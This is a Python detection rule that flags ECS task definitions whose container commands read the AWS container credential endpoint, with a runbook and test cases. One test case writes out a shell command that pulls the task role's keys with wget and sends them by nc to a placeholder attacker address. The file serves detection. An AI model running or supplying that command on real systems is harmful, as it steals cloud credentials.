"""An ECS task definition whose command reads the container credential endpoint."""

from __future__ import annotations

import json

from socbot.core.events import Event
from socbot.detections.cloudtrail._common import aws_context, ct, params, scope
from socbot.detections.rule import Case, Match, RawRecord, rule

# The task-role credential endpoint every ECS container can reach.
ENDPOINT = "169.254.170.2"


def _register(command: list[str]) -> RawRecord:
    return ct("RegisterTaskDefinition", {"family": "report-job", "containerDefinitions": [
        {"name": "job", "image": "public.ecr.aws/docker/library/alpine:3.20",
         "command": command}]}, source="ecs.amazonaws.com")


@rule(
    id="cloudtrail.ecs_credential_theft",
    title="ECS task reads the container credential endpoint",
    severity="high",
    datasets=("cloudtrail",),
    actions=("RegisterTaskDefinition",),
    mitre=("T1552.005", "T1609"),
    runbook="A task was defined to fetch its role's credentials itself, usually to send them "
            "elsewhere. Deregister the task definition, stop its tasks and revoke the role's "
            "sessions.",
    tests=(
        Case("a command that fetches the task role's keys", fires=True,
             events=(_register(["sh", "-c", "wget -qO- http://169.254.170.2$AWS_CONTAINER_"
                                            "CREDENTIALS_RELATIVE_URI | nc 203.0.113.9 80"]),)),
        Case("an ordinary job", fires=False, events=(_register(["python", "report.py"]),)),
    ),
)
def ecs_credential_theft(event: Event) -> Match | None:
    """A successful RegisterTaskDefinition whose container definitions (command, entry point,
    environment) name the credential endpoint 169.254.170.2."""
    request = params(event)
    containers = json.dumps(request.get("containerDefinitions") or [], default=str)
    if event.get("event.outcome") != "success" or ENDPOINT not in containers:
        return None
    family = str(request.get("family") or "?")
    return Match(dedup=scope(event, family), entity={"type": "aws_resource", "value": family},
                 title=f"ECS task definition {family} reads the credential endpoint; "
                       f"registered by {event.get('user.name', '?')}",
                 context=aws_context(event, task_family=family))
